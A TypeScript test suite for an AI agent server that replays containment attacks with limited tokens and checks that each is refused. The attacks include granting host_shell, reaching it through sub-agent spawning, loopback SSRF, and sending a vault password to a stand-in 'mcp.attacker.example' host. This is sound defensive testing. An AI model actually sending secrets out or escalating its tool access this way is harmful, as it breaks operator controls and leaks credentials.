/**
 * The containment attacks, replayed through the public surface (REST, tRPC, the CLI) by a caller holding a
 * limited token, each refused by the one permission model: host powers need `admin` (or the internal token),
 * a run obeys the intersection of every allow-list on its way in, and outbound URLs pass the one guard.
 * Every attack runs twice: with bubblewrap as this machine has it, and with the sandbox forced off.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createTRPCClient, httpBatchLink } from '@trpc/client';
import superjson from 'superjson';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config/load.ts';
import type { AppRouter } from '../src/routers/app.ts';
import { runCli, spawnServer } from './helpers/process.ts';
import { startTestServer, startTestServerIn, type Api, type TestServer } from './helpers/server.ts';

const INTERNAL_TOKEN = 'internal-token-for-the-security-suite-0123456789';
const internal = { 'x-moxxy-internal-token': INTERNAL_TOKEN };
const HTTP_CHANNEL_TOKEN = 'channel-token-for-the-security-suite';
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

function trpcWith(server: TestServer, headers: Record<string, string>) {
  return createTRPCClient<AppRouter>({ links: [httpBatchLink({ url: `${server.url}/trpc`, transformer: superjson, headers })] });
}

/** The echo provider's tag for a tool call; `</` is written `<\/` so a tag can carry a nested one for a sub-agent. */
const invoke = (tool: string, args: unknown) => `<invoke name="${tool}">${JSON.stringify(args).replaceAll('</', '<\\/')}</invoke>`;

/** A loopback HTTP service standing for an internal one: it records what reaches it and answers with a secret of its own. */
interface Listener {
  url: string;
  requests: Array<{ url: string; headers: IncomingHttpHeaders }>;
  close(): Promise<void>;
}

async function startListener(): Promise<Listener> {
  const requests: Listener['requests'] = [];
  const server: Server = createServer((request, response) => {
    requests.push({ url: request.url ?? '', headers: request.headers });
    response.writeHead(500, { 'content-type': 'text/plain' }).end('INTERNAL-SERVICE-SECRET-BODY');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { url: `http://127.0.0.1:${port}/mcp`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

const MODES = [
  { mode: 'bubblewrap as this machine has it', skills: {} },
  { mode: 'the sandbox forced off', skills: { bwrap: '/nonexistent/bwrap' } },
] as const;

describe.each(MODES)('containment, with $mode', ({ skills }) => {
  let server: TestServer;
  let listener: Listener;
  const tokens: Record<string, string> = {};
  let api: Api;
  const as = (scope: string) => ({ headers: bearer(tokens[scope]!) });

  beforeAll(async () => {
    listener = await startListener();
    server = await startTestServer({
      auth: { internalToken: INTERNAL_TOKEN },
      skills,
      mcp: { allowPrivateNetwork: false, allowedUrls: [] },
      channels: { http: { authToken: HTTP_CHANNEL_TOKEN, allowedTools: ['subagent.spawn'], agent: 'wide' } },
    });
    api = server.api;
    for (const scope of ['skills:write', 'skills:invoke', 'agents:write', 'channels:write', 'chat', 'tokens:admin', '*', 'admin']) {
      const created = await api.post('/api/tokens', { name: scope, scopes: [scope] }, { headers: internal });
      expect(created.status).toBe(201);
      tokens[scope] = created.body.data.token;
    }
    await api.post('/api/agents/default/vault', { key: 'DB_PASSWORD', value: 'db-password-never-leaves' }, { headers: internal });
    // Granted by the operator: an agent that may run host_shell, and one that allows every other tool.
    expect((await api.post('/api/agents', { name: 'shell', allowed_tools: ['host_shell'] }, { headers: internal })).status).toBe(201);
    expect((await api.post('/api/agents', { name: 'wide', allowed_tools: ['*'] }, { headers: internal })).status).toBe(201);
  });
  afterAll(async () => {
    await server.close();
    await listener.close();
  });

  const runOf = async (runId: string) => (await api.get(`/api/runs/${runId}`, { headers: internal })).body.data;
  const violations = async (runId: string) =>
    (await api.get(`/api/audit?event_type=security.violation&limit=1000`, { headers: internal })).body.data.events.filter((event: any) => event.run_id === runId);

  describe('host powers need admin', () => {
    it('refuses a stdio MCP server to a skills:write token, and to a * token, naming the admin scope; nothing is stored', async () => {
      for (const scope of ['skills:write', '*']) {
        const res = await api.post(
          '/api/agents/default/mcp/servers',
          { name: 'x', command: 'sh', args: ['-c', 'id >&2; exit 1'] },
          as(scope),
        );
        expect(res.status).toBe(403);
        expect(res.body.error).toMatchObject({ code: 'FORBIDDEN', details: { required_scope: 'admin' } });
        expect(res.body.error.message).toContain("'admin' scope");
      }
      await expect(trpcWith(server, bearer(tokens['skills:write']!)).mcp.addServer.mutate({ agent: 'default', name: 'x', command: 'sh' })).rejects.toMatchObject({
        data: { code: 'FORBIDDEN', httpStatus: 403 },
      });
      expect((await api.get('/api/agents/default/mcp/servers', { headers: internal })).body.data.servers).toEqual([]);
    });

    it('lets an admin token add a stdio server, whose stderr never reaches the answer', async () => {
      const res = await api.post(
        '/api/agents/default/mcp/servers',
        // The marker is computed by the command, so it appears only in what the command prints.
        { name: 'noisy', command: 'sh', args: ['-c', 'echo STDERR-$((40 + 2))-LEAK >&2; exit 3'] },
        as('admin'),
      );
      expect(res.status).toBe(201);
      expect(res.body.data.status).toBe('error');
      expect(JSON.stringify(res.body)).not.toContain('STDERR-42-LEAK');
      expect(res.body.data.error).toContain('exit code 3');
      await api.delete('/api/agents/default/mcp/servers/noisy', { headers: internal });
    });

    it('refuses to grant host_shell to an agents:write or * token, over REST and tRPC, and leaves the agent as it was', async () => {
      for (const scope of ['agents:write', '*']) {
        const patched = await api.patch('/api/agents/default', { allowed_tools: ['host_shell'] }, as(scope));
        expect(patched.status).toBe(403);
        expect(patched.body.error).toMatchObject({ code: 'FORBIDDEN', details: { required_scope: 'admin' } });
        const created = await api.post('/api/agents', { name: 'sneaky', allowed_tools: ['memory.*', 'host_shell'] }, as(scope));
        expect(created.status).toBe(403);
      }
      await expect(
        trpcWith(server, bearer(tokens['agents:write']!)).agents.update.mutate({ name: 'default', allowed_tools: ['host_shell'] }),
      ).rejects.toMatchObject({ data: { code: 'FORBIDDEN' } });
      expect((await api.get('/api/agents/default', { headers: internal })).body.data.allowed_tools).toEqual([]);
      expect((await api.get('/api/agents/sneaky', { headers: internal })).status).toBe(404);
      // Keeping a host tool the operator granted is not a new grant.
      expect((await api.patch('/api/agents/shell', { allowed_tools: ['host_shell', 'memory.*'] }, as('agents:write'))).status).toBe(200);
      expect((await api.patch('/api/agents/shell', { allowed_tools: ['host_shell'] }, as('agents:write'))).status).toBe(200);
    });

    it('never lets * in an allow-list reach host_shell: a heartbeat-style prompt is refused by the agent list', async () => {
      const star = await api.patch('/api/agents/default', { allowed_tools: ['*'] }, as('agents:write'));
      expect(star.status).toBe(200);
      try {
        const chat = await api.post('/api/agents/default/chat', { message: invoke('host_shell', ['id']) }, as('chat'));
        expect(chat.status).toBe(200);
        const run = await runOf(chat.body.data.run_id);
        expect(run.steps[1]).toMatchObject({ type: 'tool', name: 'host_shell', is_error: true });
        expect(run.steps[1].output).not.toContain('uid=');
        expect((await violations(run.id))[0].payload).toMatchObject({ reason: 'tool_not_allowed', refused_by: { list: 'agent', name: 'default' } });
      } finally {
        await api.patch('/api/agents/default', { allowed_tools: [] }, { headers: internal });
      }
    });

    it('refuses host_shell to a skills:invoke token even on an agent that names it', async () => {
      const res = await api.post('/api/agents/shell/skills/host_shell/invoke', { args: ['id'] }, as('skills:invoke'));
      expect(res.status).toBe(403);
      expect(res.body.error.details).toMatchObject({ required_scope: 'admin' });
      expect(JSON.stringify(res.body)).not.toContain('uid=');
    });

    it('refuses a channel allow-list naming host_shell to a channels:write token', async () => {
      const res = await api.post('/api/agents/shell/channels', { type: 'http', config: { authToken: 'x'.repeat(32), allowedTools: ['host_shell'] } }, as('channels:write'));
      expect(res.status).toBe(403);
      expect((await api.get('/api/agents/shell/channels', { headers: internal })).body.data.channels).toEqual([]);
    });

    it('lets a token hand out only the scopes it holds', async () => {
      for (const scopes of [['admin'], ['*'], ['skills:write']]) {
        const res = await api.post('/api/tokens', { name: 'escalate', scopes }, as('tokens:admin'));
        expect(res.status).toBe(403);
      }
      expect((await api.post('/api/tokens', { name: 'peer', scopes: ['tokens:admin'] }, as('tokens:admin'))).status).toBe(201);
      expect((await api.post('/api/tokens', { name: 'admin-too', scopes: ['admin'] }, as('admin'))).status).toBe(201);
      expect((await api.post('/api/tokens', { name: 'from-star', scopes: ['admin'] }, as('*'))).status).toBe(403);
    });
  });

  describe('one effective allow-list per run', () => {
    it('keeps a chat-only caller from reaching another agent\'s host_shell through subagent.spawn', async () => {
      await api.post('/api/agents', { name: 'gate', allowed_tools: ['subagent.spawn'] }, { headers: internal });
      const nested = invoke('subagent.spawn', { agent: 'shell', prompt: invoke('host_shell', ['id']) });
      const refused = await api.post('/api/agents/gate/chat', { message: nested }, as('chat'));
      expect(refused.status).toBe(200);
      expect(refused.body.data.content).toContain("may not hand tasks to 'shell'");

      // Named as a sub-agent, the child still obeys the parent's list, which does not include host_shell.
      await api.patch('/api/agents/gate', { subagents: ['shell'] }, { headers: internal });
      const child = await api.post('/api/agents/gate/chat', { message: nested }, as('chat'));
      expect(child.body.data.content).not.toContain('uid=');
      const spawned = (await api.get(`/api/audit?event_type=subagent.spawned&limit=1000`, { headers: internal })).body.data.events.find(
        (event: any) => event.run_id === child.body.data.run_id,
      );
      const childRun = await runOf(spawned.payload.child_run_id);
      expect(childRun.agent_id).toBe('shell');
      expect(childRun.steps[1]).toMatchObject({ name: 'host_shell', is_error: true });
      expect((await violations(childRun.id))[0].payload).toMatchObject({ refused_by: { list: 'parent', name: 'gate' } });
    });

    it('keeps a channel limited to subagent.spawn from storing memories through a child run', async () => {
      const prompt = invoke('subagent.spawn', { prompt: invoke('memory.store', { content: 'smuggled through a child' }) });
      const turn = await fetch(`${server.url}/v1/turn`, {
        method: 'POST',
        headers: { ...bearer(HTTP_CHANNEL_TOKEN), 'content-type': 'application/json' },
        body: JSON.stringify({ prompt }),
      });
      expect(turn.status).toBe(200);
      expect((await api.get('/api/agents/wide/memory', { headers: internal })).body.data.memories).toEqual([]);
      const refusals = (await api.get(`/api/audit?agent_id=wide&event_type=security.violation&limit=1000`, { headers: internal })).body.data.events;
      expect(refusals.map((event: any) => event.payload)).toContainEqual(
        expect.objectContaining({ tool: 'memory.store', refused_by: { list: 'parent', name: 'http' } }),
      );
    });

    it('lets a channel narrow the agent\'s list, never widen it', async () => {
      await api.post('/api/agents', { name: 'bare', allowed_tools: [] }, { headers: internal });
      await api.post('/api/agents/bare/skills', { name: 'marker', language: 'sh', code: 'echo SKILL-RAN\n' }, { headers: internal });
      const channelToken = 'bare-channel-token-0123456789abcdef';
      const configured = await api.post('/api/agents/bare/channels', { type: 'http', config: { authToken: channelToken, allowedTools: ['*'] } }, as('channels:write'));
      expect(configured.status).toBe(201);
      const turn = await (await fetch(`${server.url}/v1/turn`, {
        method: 'POST',
        headers: { ...bearer(channelToken), 'content-type': 'application/json' },
        body: JSON.stringify({ prompt: invoke('marker', []) }),
      })).json();
      expect(JSON.stringify(turn)).not.toContain('SKILL-RAN');
      const refusals = (await api.get(`/api/audit?agent_id=bare&event_type=security.violation&limit=1000`, { headers: internal })).body.data.events;
      expect(refusals[0].payload).toMatchObject({ tool: 'marker', refused_by: { list: 'agent', name: 'bare' } });
    });
  });

  describe('outbound URLs pass the one guard', () => {
    it('refuses an MCP server on a loopback URL and never connects to it', async () => {
      const res = await api.post('/api/agents/default/mcp/servers', { name: 'ssrf', url: listener.url }, as('skills:write'));
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('URL_NOT_ALLOWED');
      const leak = await api.post(
        '/api/agents/default/mcp/servers',
        { name: 'ssrf', url: listener.url, headers: { 'X-Leak': '${vault:DB_PASSWORD}' } },
        as('skills:write'),
      );
      expect(leak.status).toBe(403);
      expect(listener.requests).toEqual([]);
      expect((await api.get('/api/agents/default/mcp/servers', { headers: internal })).body.data.servers).toEqual([]);
    });

    it('refuses ${vault:...} in the headers of a URL the operator did not allow', async () => {
      const res = await api.post(
        '/api/agents/default/mcp/servers',
        { name: 'exfil', url: 'https://mcp.attacker.example/mcp', headers: { 'X-Leak': '${vault:DB_PASSWORD}' } },
        as('skills:write'),
      );
      expect(res.status).toBe(403);
      expect(res.body.error.message).toContain('mcp.allowedUrls');
      expect(JSON.stringify(res.body)).not.toContain('db-password-never-leaves');
    });
  });

  it('checks every hop: a trusted MCP URL redirecting to an internal one is refused, and the body never shows', async () => {
    const redirector = createServer((_request, response) => response.writeHead(307, { location: listener.url }).end());
    await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
    const trustedUrl = `http://127.0.0.1:${(redirector.address() as { port: number }).port}/mcp`;
    const trusting = await startTestServer({ skills, mcp: { allowedUrls: [trustedUrl] } });
    try {
      const seen = listener.requests.length;
      const added = await trusting.api.post('/api/agents/default/mcp/servers', { name: 'hop', url: trustedUrl });
      expect(added.status).toBe(201);
      expect(added.body.data.status).toBe('error');
      expect(added.body.data.error).toContain('URL not allowed');
      expect(JSON.stringify(added.body)).not.toContain('INTERNAL-SERVICE-SECRET-BODY');
      expect(listener.requests.length).toBe(seen);
    } finally {
      await trusting.close();
      await new Promise((resolve) => redirector.close(resolve));
    }
  });

  describe('the sandbox in health', () => {
    it('reports what the sandbox status is, in health, with a warning when there is none', async () => {
      const health = (await api.get('/api/health')).body.data;
      if ('bwrap' in skills) {
        expect(health.sandbox).toBe('none');
        expect(health.warnings.join(' ')).toMatch(/sandbox/i);
      } else {
        expect(['bwrap', 'none']).toContain(health.sandbox);
      }
    });
  });
});

describe('without a sandbox the server says so', () => {
  it('requires the sandbox by default on a non-loopback bind, not on loopback', async () => {
    const home = mkdtempSync(join(tmpdir(), 'moxxy-sec-'));
    try {
      const wide = await loadConfig({ cwd: home, env: { MOXXY_HOME: home, HOST: '0.0.0.0', MOXXY_INTERNAL_TOKEN: INTERNAL_TOKEN } });
      expect(wide.skills.requireSandbox).toBe(true);
      const local = await loadConfig({ cwd: home, env: { MOXXY_HOME: home } });
      expect(local.skills.requireSandbox).toBe(false);
      const chosen = await loadConfig({ cwd: home, env: { MOXXY_HOME: home, HOST: '0.0.0.0' }, overrides: { skills: { requireSandbox: false } } });
      expect(chosen.skills.requireSandbox).toBe(false);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });

  it('warns at start-up and refuses skills when the sandbox is required and missing', async () => {
    const home = mkdtempSync(join(tmpdir(), 'moxxy-sec-'));
    writeFileSync(join(home, 'moxxy.config.json'), JSON.stringify({ skills: { bwrap: '/nonexistent/bwrap', requireSandbox: true } }));
    const server = await spawnServer({ MOXXY_HOME: home }, home);
    try {
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(server.output()).toMatch(/no sandbox/i);
      const health = (await (await fetch(`${server.url}/api/health`)).json()) as { data: unknown };
      expect(health.data).toMatchObject({ sandbox: 'none' });
      await fetch(`${server.url}/api/agents/default/skills`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'reader', language: 'sh', code: 'cat "$1"\n' }),
      });
      const run = await fetch(`${server.url}/api/agents/default/skills/reader/invoke`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ args: [join(home, 'vault.key')] }),
      });
      expect(run.status).toBe(503);
      expect(((await run.json()) as { error: { code: string } }).error.code).toBe('SANDBOX_UNAVAILABLE');
    } finally {
      await server.stop();
      rmSync(home, { recursive: true, force: true });
    }
  });

  it('refuses host_shell from the CLI to an agent that allows only *', async () => {
    const home = mkdtempSync(join(tmpdir(), 'moxxy-sec-'));
    try {
      const env = { MOXXY_HOME: home, MOXXY_LOG_LEVEL: 'silent' };
      const server = await startTestServerIn(home);
      await server.api.post('/api/agents', { name: 'star', allowed_tools: ['*'] });
      await server.close();
      const run = await runCli(['run', '--agent', 'star', '--prompt', invoke('host_shell', ['id'])], env);
      expect(run.stdout + run.stderr).not.toContain('uid=');
      expect(run.stdout + run.stderr).toContain("Tool 'host_shell' is not allowed");
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });
});
